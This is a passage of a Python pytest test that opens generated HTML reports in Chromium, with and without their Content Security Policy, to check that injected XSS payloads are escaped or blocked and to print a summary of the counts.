                                     args=axe_harness.LAUNCH_ARGS)
        try:
            started = time.monotonic()
            with_csp = open_pages(browser, pages, bypass_csp=False, probe=probe)
            middle = time.monotonic()
            without_csp = open_pages(browser, bare, bypass_csp=True, probe=probe & bare.keys())
            timing = f"{middle - started:.0f} s with the CSP, {time.monotonic() - middle:.0f} s without"
            bait_csp = open_pages(browser, bait, bypass_csp=False)
            bait_bare = open_pages(browser, bait, bypass_csp=True)
        finally:
            browser.close()

    for seen, label in ((with_csp, "with CSP"), (without_csp, "CSP bypassed")):
        assert not seen.dialogs, (label, seen.dialogs[:5])
        assert not seen.markers(), (label, sorted(seen.markers()))
        assert not seen.requests, (label, seen.requests[:5])
        assert not seen.navigations, (label, seen.navigations[:5])
        for name, r in seen.pages.items():
            assert not r["bad"], (label, name, r["bad"][:10])
            assert r["url"] == pages[name].as_uri() and r["frames"] == 1, (label, name)
            if name in built.reports:  # the payload shows, as text, in the report's heading
                assert as_shown(f"Cổng {payload(built.reports[name])}") in r["h1"], (label, name)
            if is_dashboard(name) or name == "mail/digest-00.html":
                shown = "\n".join(r["names"])
                assert all(as_shown(payload(n)) in shown for n in range(N)), (label, name)
    for name, r in with_csp.pages.items():
        assert not r["violations"], (name, r["violations"][:5])  # our sheet and script match their hashes
        assert len(r["csp"]) == 1 and not csp_problems(r["csp"][0]), (name, r["csp"])
        assert r["scripts"] == ([assets.FILTER_SCRIPT] if is_dashboard(name) else []), name
        assert r["styles"] == (0 if name.startswith("mail/") else 1), name
    # The policy is in force on every kind of page: the injected script, handler and javascript: URL
    # are refused, each with a violation; without the policy the same probe runs all three.
    for name in probe:
        r = with_csp.pages[name]["probe"]
        assert r["ran"] == [], (name, r)
        assert sum("script-src" in v or "trusted-types" in v for v in r["violations"]) >= 3, (name, r)
    unguarded = probe & bare.keys()
    assert len(unguarded) >= 4 and {n: without_csp.pages[n]["probe"]["ran"] for n in unguarded} == \
        {n: PROBED for n in unguarded}

    # The canary: with the CSP the payloads pasted raw are refused (and reported); without it they run,
    # through every channel watched, and the DOM inspection names them.
    trap, loose = bait_csp.pages["canary"], bait_bare.pages["canary"]
    assert trap["bad"] and trap["violations"] and not bait_csp.dialogs
    assert not [c for c in bait_csp.console if "nd42-xss" in c and not c.startswith("error: ")]
    assert [c for c in bait_csp.console if "Content Security Policy" in c]  # refused, and said so
    ran = bait_bare.markers()
    assert bait_bare.dialogs and bait_bare.requests and [c for c in bait_bare.console if c.startswith("log: nd42-xss")]
    assert len(ran) >= 15, sorted(ran)
    assert any(b.startswith("handler") for b in loose["bad"]) and any(b.startswith("script URL") for b in loose["bad"])
    opened = len(with_csp.pages) + len(without_csp.pages) + len(bait_csp.pages) + len(bait_bare.pages)
    summary = (f"report safety: {N} payloads; {len(built.pages)} pages built ({len(built.mail)} digests); "
               f"1 Chromium, 4 contexts, {opened} page loads: {len(pages)} with their CSP, {len(bare)} with "
               f"it bypassed, the canary twice; probe on {len(probe)} page kinds (+{len(unguarded)} bypassed); "
               f"canary: {len(ran)} payloads ran raw with the CSP bypassed, none with it; {timing}")
    with capsys.disabled():  # shown without -s: the counts a closing note quotes
        print("\n" + summary)
